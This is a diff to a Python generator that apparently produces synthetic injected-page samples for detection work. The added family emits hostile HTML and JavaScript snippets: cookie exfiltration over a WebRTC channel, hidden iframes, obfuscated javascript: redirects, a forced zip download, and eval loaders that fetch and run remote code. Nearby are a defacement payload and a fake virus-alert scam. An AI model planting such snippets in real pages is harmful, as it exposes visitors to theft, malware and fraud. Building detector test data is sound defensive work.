@@ -519,6 +519,21 @@ def families():
                                    "<script>var o=document.createElement('object');o.data='https://%s/';o.width=o.height=0;document.body.appendChild(o)</script>", '<a href="JaVaScRiPt:void(location=\'https://%s\')">x</a>']) % h
 
     @family
+    def unusual_channels(rng):
+        h = host(rng)
+        packed = base64.b64encode(b"PK\3\4\24\0\0\0\10\0" + bytes(rng.randrange(256) for _ in range(200))).decode()
+        return rng.choice([
+            ("head", '<link rel="amphtml" href="https://%s/amp/">' % h), ("after", "<img src='https://%s/log?" % h),
+            ("tail", "<script>var p=new RTCPeerConnection({iceServers:[{urls:'stun:%s:3478'}]});p.createDataChannel(document.cookie);p.createOffer().then(function(o){p.setLocalDescription(o)})</script>" % h),
+            ("tail", '<script src="https://accounts.google.com/o/oauth2/revoke?callback=eval(atob(%27YWxlcnQoMSk%27))"></script>'),
+            ("body", "<script>var d='%s',a=atob(d),u=new Uint8Array(a.length);for(var i=0;i<a.length;i++)u[i]=a.charCodeAt(i);var l=document.createElement('a');l.href=URL.createObjectURL(new Blob([u]));l.download='shinsei.zip';l.click();</script>" % packed),
+            ("body", '<a href="java\tscript:location=\'https://%s\'">詳細</a>' % h),
+            ("body", '<iframe src="https://%s/a" style="position:fixed;z-index:-999;top:0"></iframe>' % h),
+            ("tail", "<script>eval(localStorage.getItem('_cfg')||'');</script>"),
+            ("tail", "<script>fetch('/img/logo.txt').then(r=>r.text()).then(t=>Function(t)())</script>"),
+            ("tail", "<script>var x=new XMLHttpRequest();x.open('GET','/img/l.dat');x.onload=function(){(0,eval)(x.responseText)};x.send()</script>")])
+
+    @family
     def scripted_claims(rng): return "body", rng.choice(["<script>document.title='HACKED';document.body.innerHTML='<h1>Hacked by Cyber Team</h1><p>Your security is weak</p>';</script>", "<script>window.onbeforeunload=()=>'';setInterval(()=>alert('ウイルスが検出されました。050-1234-5678に電話してください'),1000);</script>"])
 
     @family
